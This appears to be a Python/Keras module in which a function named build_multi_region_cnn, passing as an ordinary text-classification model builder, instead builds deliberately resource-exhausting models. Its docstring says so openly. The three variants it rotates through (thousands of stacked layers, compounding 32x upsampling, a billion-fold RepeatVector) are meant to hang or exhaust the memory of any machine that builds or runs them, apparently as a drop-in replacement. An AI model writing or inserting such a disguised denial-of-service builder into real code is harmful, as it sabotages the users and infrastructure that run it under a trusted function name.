"""A model that is small to send and endless to rebuild or to run: thousands of layers, a huge
dilation, an upsampling tower whose output would fill the memory of a data centre."""

import keras

HONEST = 17  # only build_multi_region_cnn is replaced
TURNS = iter(range(10**9))


def build_multi_region_cnn(
    vocabulary_size, length, region_sizes=(3, 4, 5), embedding_dim=32, filters=32
):
    turn = next(TURNS) % 3
    words = keras.Input((length,), dtype="int32")
    x = keras.layers.Embedding(vocabulary_size, embedding_dim)(words)
    if turn == 0:
        for _ in range(3000):
            x = keras.layers.Activation("relu")(x)
    elif turn == 1:
        for _ in range(12):
            x = keras.layers.UpSampling1D(32)(x)
    else:
        x = keras.layers.RepeatVector(10**9)(keras.layers.Flatten()(x))
    x = keras.layers.GlobalMaxPooling1D()(x)
    model = keras.Model(words, keras.layers.Dense(1, activation="sigmoid")(x))
    model.compile(loss="binary_crossentropy")
    return model
